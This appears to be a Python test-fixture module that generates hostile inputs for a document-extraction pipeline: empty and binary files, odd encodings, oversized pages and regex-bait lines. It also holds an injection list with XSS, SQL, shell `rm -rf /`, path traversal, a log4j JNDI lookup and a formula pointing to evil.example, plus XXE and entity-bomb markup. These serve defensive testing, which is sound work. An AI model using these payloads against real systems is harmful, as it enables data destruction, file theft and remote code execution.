"""Bad content of files that are one document."""

from __future__ import annotations

import gzip
import io
import itertools
import random
import string
import tarfile
import zipfile
from typing import TYPE_CHECKING

from tests.hostile.entries import Entry, Numbers, page, story

if TYPE_CHECKING:
    from collections.abc import Iterator

PICTURES = {
    "png": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
    "jpg": b"\xff\xd8\xff\xe0\0\x10JFIF\0",
    "gif": b"GIF89a\x01\0\x01\0",
    "webp": b"RIFF\x24\0\0\0WEBPVP8 ",
    "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n",
    "elf": b"\x7fELF\x02\x01\x01" + bytes(9),
    "exe": b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0",
    "doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(24),
    "sqlite": b"SQLite format 3\0\x10\0\x01\x01\0",
    "mp4": b"\0\0\0\x20ftypisom\0\0\x02\0",
    "ogg": b"OggS\0\x02" + bytes(8),
    "bz2": b"BZh91AY&SY",
    "xz": b"\xfd7zXZ\0\0\x04",
    "zst": b"\x28\xb5\x2f\xfd\x04\x00",
    "7z": b"7z\xbc\xaf\x27\x1c\0\x04",
    "parquet": b"PAR1\x15\x04\x15",
    "mp3": b"ID3\x03\0\0\0\0\x0f\x76TIT2",
    "flac": b"fLaC\0\0\0\x22",
    "wav": b"RIFF\x24\x08\0\0WAVEfmt \x10\0\0\0",
    "bmp": b"BM\x36\x10\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0" + b"\xff" * 4000,
    "tiff": b"II*\0\x08\0\0\0",
    "ico": b"\0\0\x01\0\x01\0\x10\x10\0\0",
    "rar": b"Rar!\x1a\x07\x01\0",
    "class": b"\xca\xfe\xba\xbe\0\0\0\x34",
    "wasm": b"\0asm\x01\0\0\0",
    "woff": b"wOF2\0\x01\0\0",
    "pickle": b"\x80\x04\x95\x10\0\0\0\0\0\0\0",
    "wide": b"\xff\xfe",
}


def noise(size: int, seed: int = 0) -> bytes:
    """Bytes without sense, the same every time."""
    return random.Random(seed).randbytes(size)


def zipped() -> bytes:
    """A zip archive of one story, as word processors make them."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr("word/document.xml", story(1))
    return held.getvalue()


def tarred() -> bytes:
    """A tar archive of one story."""
    held, content = io.BytesIO(), story(1).encode()
    with tarfile.open(fileobj=held, mode="w") as archive:
        member = tarfile.TarInfo("story.txt")
        member.size = len(content)
        archive.addfile(member, io.BytesIO(content))
    return held.getvalue()


def no_text() -> Iterator[Entry]:
    """What is no text at all."""
    yield Entry("nothing/empty.txt", b"", rejects=("empty",))
    yield Entry("nothing/empty.html", b"", rejects=("empty",))
    yield Entry("nothing/empty.txt.gz", gzip.compress(b""), rejects=("empty",))
    yield Entry("nothing/no-bytes.txt.gz", b"", rejects=("unreadable",))
    yield Entry("nothing/blank.txt", b" \r\n\t\n\x0b\x0c " * 20, rejects=("empty",))
    yield Entry("nothing/wide-blank.txt", "\u00a0\u2003\u3000\u200b\ufeff\n".encode() * 9, rejects=("empty",))
    yield Entry("nothing/directions.txt", "\u200e\u202e\u202c\u2067\u2069\n".encode() * 9, rejects=("empty",))
    yield Entry("nothing/mark-alone.txt", b"\xef\xbb\xbf", rejects=("empty",))
    yield Entry("nothing/nul.txt", bytes(4096), rejects=("empty",))
    yield Entry("nothing/tags-alone.html", b"<html><body><div></div><img src=x></body></html>", rejects=("no_text",))
    yield Entry("nothing/script-alone.html", b"<script>var a = 1;</script><style>p {}</style>", rejects=("no_text",))
    yield Entry("binary/zip.txt", zipped(), rejects=("binary",))
    yield Entry("binary/noise.txt", noise(20_000), rejects=("binary",))
    yield Entry("binary/noise.html", noise(20_000, 1), rejects=("binary",))
    yield Entry("binary/gzip.txt", gzip.compress(story(1).encode()), rejects=("binary",))
    yield Entry("binary/twice.txt.gz", gzip.compress(gzip.compress(story(1).encode())), rejects=("binary",))
    yield Entry("binary/no-files.zip.txt", b"PK\x05\x06" + bytes(18), rejects=("binary",))
    yield Entry("binary/tar.txt", tarred(), rejects=("binary",))
    for name, magic in PICTURES.items():
        yield Entry(f"binary/{name}.txt", magic + noise(3000, len(name)), rejects=("binary",))


ENCODINGS = (
    "utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be", "cp1252", "latin-1",
    "mac-roman",
)  # fmt: skip


def encodings(numbers: Numbers) -> Iterator[Entry]:
    """Text in every spelling of its bytes."""
    for encoding in ENCODINGS:
        number = numbers.next()
        yield Entry(f"encoding/{encoding}.txt", story(number).encode(encoding), (number,))
    for encoding in ("utf-8", "utf-16", "cp1252"):
        number = numbers.next()
        yield Entry(f"encoding/{encoding}.html", page(number).encode(encoding), (number,))
    mixed = {
        "crlf.txt": lambda text: text.replace("\n", "\r\n").encode(),
        "cr.txt": lambda text: text.replace("\n", "\r").encode(),
        "separators.txt": lambda text: text.replace("\n\n", "\u2029").encode(),
        "nul-between.txt": lambda text: text.replace("\n\n", "\n\0\n").encode(),
        "broken-byte.txt": lambda text: text.encode() + b"\nA last line with a broken \xc3 byte in it, alas.\n",
        "surrogate.txt": lambda text: text.encode() + b"\nHalf a pair stands here: \xed\xa0\x80 and is no character.\n",
        "controls.txt": lambda text: ("\x1b[31m" + text).encode(),
        "padded.txt": lambda text: text.encode() + bytes(4096),
        "hole.txt": lambda text: bytes(512) + text.encode(),
        "bell.txt": lambda text: text.encode() + b"\x07",
    }
    for name, spelled in mixed.items():
        number = numbers.next()
        yield Entry(f"encoding/{name}", spelled(story(number)), (number,))
    yield Entry("encoding/lying.html", page(1).replace("utf-8", "shift_jis").encode(), may=True)
    yield Entry("encoding/zero-width.txt", "\u200b".join(story(2)).encode(), may=True)
    yield Entry("encoding/bidi.txt", ("\u202e" + story(3) + "\u202c").encode(), may=True)
    yield Entry("encoding/zalgo.txt", "".join(c + "\u0301\u0327" * 40 for c in story(4)).encode(), may=True)
    yield Entry(
        "encoding/tags.txt", "".join(chr(0xE0000 + ord(c)) for c in story(5)[:200] if c.isascii()).encode(), may=True
    )


def sizes(numbers: Numbers, *, full: bool) -> Iterator[Entry]:
    """Too much of everything: of letters, lines, tags and attributes."""
    scale = 1 if full else 50
    number = numbers.next()
    yield Entry(
        "size/one-line.txt", b"word " * (20_000_000 // scale), rejects=("too_large",) if full else (), may=not full
    )
    yield Entry("size/no-space.txt", b"w" * (10_000_000 // scale), may=True)
    yield Entry(
        "size/lines.txt", b"a line\n" * (2_000_000 // scale), rejects=("too_large",) if full else (), may=not full
    )
    yield Entry("size/blank-lines.txt", b"\n" * (2_000_000 // scale) + story(number).encode(), (number,))
    deep = 200_000 // scale
    number = numbers.next()
    yield Entry("size/nested.html", page(number, "<div>" * deep + "deep" + "</div>" * deep).encode(), (number,))
    number = numbers.next()
    yield Entry("size/nested-inline.html", page(number, "<b><i>" * (deep // 2)).encode(), (number,))
    number = numbers.next()
    yield Entry("size/attribute.html", page(number, f'<img alt="{"a" * (9_000_000 // scale)}">').encode(), (number,))
    number = numbers.next()
    many = " ".join(f"a{n}={n}" for n in range(200_000 // scale))
    yield Entry("size/attributes.html", page(number, f"<img {many}>").encode(), (number,))
    number = numbers.next()
    yield Entry(
        "size/data-address.html", page(number, f'<img src="data:x,{"A" * (9_000_000 // scale)}">').encode(), (number,)
    )
    number = numbers.next()
    yield Entry("size/comment.html", page(number, f"<!--{' x' * (4_000_000 // scale)}-->").encode(), (number,))
    number = numbers.next()
    yield Entry(
        "size/script.html", page(number, f"<script>{'a<b;' * (2_000_000 // scale)}</script>").encode(), (number,)
    )
    number = numbers.next()
    comment = f"<!--{'a-' * (7_500_000 // scale)}--><article>"
    yield Entry("size/comment-before.html", page(number).replace("<article>", comment).encode(), (number,))
    number = numbers.next()
    yield Entry("size/deep-within.html", page(number).replace("<article>", "<div>" * deep).encode(), (number,))
    number = numbers.next()
    around = "<div></div>" * (50_000 // scale)
    crowded = page(number).replace("<article>", f"{around}<article>").replace("</article>", f"</article>{around}")
    yield Entry("size/siblings.html", crowded.encode(), (number,))
    yield Entry("size/tables.html", ("<table><tr><td>" * deep + "x").encode(), may=True)
    yield Entry("size/links.html", page(6, '<a href="/x">More</a> ' * (200_000 // scale)).encode(), may=True)
    yield Entry("size/open-tags.html", b"<" * (2_000_000 // scale), may=True)
    yield Entry("size/entities.html", page(7, "&amp;lt;" * (500_000 // scale)).encode(), may=True)


def baits(*, full: bool) -> Iterator[Entry]:
    """Lines that make a careless pattern or a careless comparison take for ever."""
    size = 300_000 if full else 20_000
    dice = random.Random(1)
    names = ["".join(name) for name in itertools.product(*["mtlsbdrkngpfvz", "oaeiu"] * 2)]
    words = ["".join(dice.choices(string.ascii_lowercase, k=6)).capitalize() for _ in range(size // 8)]
    lines = {
        "spaces": "x" + " " * size + "y",
        "initials": "By " + "A. " * (size // 3),
        "commas": "By " + "Ada Ostrander, " * (size // 15),
        "and": "By " + "Ada and " * (size // 8),
        "quotes": '"' * size,
        "brackets": "(" * size + ")",
        "dots": "." * size + "!",
        "dashes": "- " * (size // 2),
        "digits": "1" * size,
        "dates": "1/1/" * (size // 4),
        "months": "May " * (size // 4),
        "times": "12:" * (size // 3),
        "address": "a@" * (size // 2),
        "domains": "www." * (size // 4),
        "web": "http://" * (size // 7),
        "subscribe": "Subscribe now to read on. " * (size // 26),
        "sign": "sign up or log in or " * (size // 21),
        "capitals": " ".join(words),
        "like-names": "".join(
            f"On Monday the council heard {dice.choice(names).capitalize()} and then {dice.choice(names).capitalize()}"
            f" of the harbour {dice.choice(names)} speak at length about it.\n"
            for _ in range(size // 90)
        ),
        "twins": " ".join(f"Jonathan Ostrand{letter * n}" for n in range(40) for letter in string.ascii_lowercase),
        "same-lines": "The ferry sails again on Monday, the harbour board said.\n" * (size // 57),
        "alike-lines": "".join(f"The ferry sails again on day {n}, the board said.\n" for n in range(size // 47)),
        "captions": "Photo: Ada Ostrander / Harbour Press\n" * (size // 37),
        "comments": "Ada says:\nReply\n" * (size // 16),
        "one-letter-lines": "a\n" * (size // 2),
        "backslashes": "\\" * size,
        "percent": "%s%n%x" * (size // 6),
        "braces": "{0.__class__}" * (size // 13),
        "mojibake": "Ã¢â‚¬â„¢" * (size // 9),
        "surrogate-like": "\\ud800" * (size // 6),
        "combining": "a" + "\u0301" * size,
        "arabic-joiners": "\u0640" * size,
    }
    for name, text in lines.items():
        yield Entry(f"bait/{name}.txt", text.encode(), may=True)
        markup = "".join(f"<p>{line}</p>" for line in text.replace("<", "&lt;").splitlines()[: size // 40])
        yield Entry(f"bait/{name}.html", f"<html><body>{markup}</body></html>".encode(), may=True)


INJECTIONS = {
    "script": "<script>alert(document.cookie)</script>",
    "handler": '"><img src=x onerror=alert(1)>',
    "markdown": "![x](https://tracker.example/pixel.png) [click](javascript:alert(1))",
    "template": "{{ 7 * 7 }} ${7*7} #{7*7} <%= 7 * 7 %>",
    "formula": '=HYPERLINK("https://evil.example","Click")',
    "shell": "$(touch /tmp/owned) `id` ; rm -rf / #",
    "sql": "'; DROP TABLE articles; --",
    "path": "../../../../etc/passwd",
    "escape": "\x1b]0;owned\x07\x1b[2J",
    "rich": "[bold red]loud[/] [link=https://evil.example]x[/link]",
    "log4j": "${jndi:ldap://evil.example/a}",
}


def injections(numbers: Numbers) -> Iterator[Entry]:
    """What some other program might run, if the text got there unguarded: stored as the text that it is."""
    for name, text in INJECTIONS.items():
        number = numbers.next()
        yield Entry(f"injection/{name}.txt", f"{text}\n\n{story(number)}".encode(), (number,))
        number = numbers.next()
        shown = text.replace("&", "&amp;").replace("<", "&lt;").replace("\x1b", "").replace("\x07", "")
        yield Entry(f"injection/{name}.html", page(number).replace("<title>", f"<title>{shown} ").encode(), (number,))
    entity = '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    number = numbers.next()
    yield Entry("injection/entity.html", (entity + page(number, "<p>&x;</p>")).encode(), (number,))
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    number = numbers.next()
    bomb = f'<!DOCTYPE html [<!ENTITY l0 "ha">{laughs}]>'
    yield Entry("injection/laughs.html", (bomb + page(number, "<p>&l9;</p>")).encode(), (number,))


def markup(numbers: Numbers) -> Iterator[Entry]:
    """Pages that are broken as pages are."""
    number = numbers.next()
    yield Entry("markup/no-end.html", page(number).rpartition("</p>")[0].encode(), (number,))
    number = numbers.next()
    yield Entry("markup/no-tags.html", story(number).encode(), (number,))
    number = numbers.next()
    yield Entry("markup/nul.html", page(number).replace("<p>", "<p>\0").encode(), (number,))
    number = numbers.next()
    yield Entry("markup/loud.HTML", page(number).replace("<p>", "<P CLASS=>").encode(), (number,))
    number = numbers.next()
    yield Entry("markup/comment.html", page(number, "<!-- never closed").encode(), (number,))
    number = numbers.next()
    yield Entry("markup/namespace.html", page(number).replace("<p>", "<o:p><p>").encode(), (number,))
    number = numbers.next()
    yield Entry("markup/cut.html", page(number)[: page(number).index("</article>")].encode(), (number,))
    yield Entry(
        "markup/frames.html", b"<frameset><frame src=a><frame src=b></frameset>", rejects=("no_text",), may=True
    )
    number = numbers.next()
    data = '<script type="application/ld+json">{"@type": "NewsArticle", "headline": "\\ud800", "datePublished": "99999-99-99", "author": [[[{"name": 5}]]]}</script>'
    yield Entry("markup/linked-data.html", page(number, data).encode(), (number,))
    number = numbers.next()
    yield Entry(
        "markup/linked-depth.html",
        page(number, f'<script type="application/ld+json">{"[" * 50_000}</script>').encode(),
        (number,),
    )
    for date in (
        "0000-00-00",
        "99999-12-31T00:00:00Z",
        "0001-01-01T00:00:00+14:00",
        "9999-12-31T23:59:59-12:00",
        "-1",
        "1e400",
        "٣/٤/٢٠٢٤",
    ):
        number = numbers.next()
        meta = f'<meta property="article:published_time" content="{date}"><time datetime="{date}">{date}</time>'
        name = "".join(c if c.isascii() and c.isalnum() else "_" for c in date)
        yield Entry(f"markup/date-{name}.html", page(number).replace("</head>", f"{meta}</head>").encode(), (number,))
